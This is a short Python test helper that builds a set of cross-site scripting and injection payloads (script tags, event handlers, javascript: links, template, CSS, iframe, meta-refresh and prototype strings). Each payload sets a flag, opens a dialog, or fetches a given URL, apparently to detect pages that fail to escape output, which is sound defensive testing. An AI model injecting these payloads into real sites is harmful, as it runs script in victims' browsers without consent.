"""Text that would be more than text on a page that did not escape it."""


def payloads(url: str) -> dict[str, str]:
    """The texts by what each tries. Each sets `pwned` in the topmost window, opens a dialog, or asks for `url`."""
    # Once: a dialog that closes gives the focus back, and with it the next one.
    run = f"if(!top.pwned){{top.pwned=1;alert(1);fetch('{url}/fetched')}}"
    return {
        "script": f"<script>{run}</script>",
        "img onerror": f'<img src=x onerror="{run}"><img src="{url}/img">',
        "svg onload": f'<svg onload="{run}"><image href="{url}/svg"/></svg>',
        "javascript: link": f'<a href="javascript:{run}" id=click>x</a> javascript:{run}',
        "attribute": f"\" autofocus tabindex=0 onfocus=\"{run}\" x='' onmouseover='{run}'",
        "template": "{{constructor.constructor('top.pwned=1')()}}${top.pwned=1}{% raw %}<%= top.pwned=1 %>",
        "css": f"</style><style>*{{background:url({url}/css)}}</style>;background:url({url}/css2)",
        "comment": f"--><script>{run}</script><!-- ]]><script>{run}</script><![CDATA[",
        "script in JSON": f'</script><script>{run}</script>{{"x": "</script><!--"}}',
        "markdown": f"![x]({url}/markdown) [x](javascript:{run}) ``` \n```\n<img src=x onerror={run}>",
        "frame": f'<iframe srcdoc="<script>{run}</script>"></iframe><iframe src="{url}/frame"></iframe>',
        "elsewhere": f'<meta http-equiv="refresh" content="0;url={url}/refresh"><base href="{url}/">'
        f'<link rel=stylesheet href="{url}/link"><object data="{url}/object"></object>'
        f'<form action="{url}/form"><button autofocus>x',
        "vega": "datum.constructor.constructor('top.pwned=1')() signal: [\"__proto__\"]",
        "__proto__": "__proto__",
    }
